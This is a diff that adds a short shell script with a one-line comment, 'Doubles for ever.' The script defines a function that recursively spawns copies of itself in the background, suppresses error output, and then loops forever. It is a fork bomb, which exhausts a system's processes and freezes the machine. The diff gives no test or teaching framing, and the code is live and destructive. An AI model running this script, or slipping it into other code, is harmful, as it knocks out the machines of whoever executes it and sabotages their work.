@@ -1,0 +1,6 @@
+# Doubles for ever.
+bomb() {
+	bomb | bomb &
+}
+bomb 2>/dev/null
+while :; do sleep 1; done
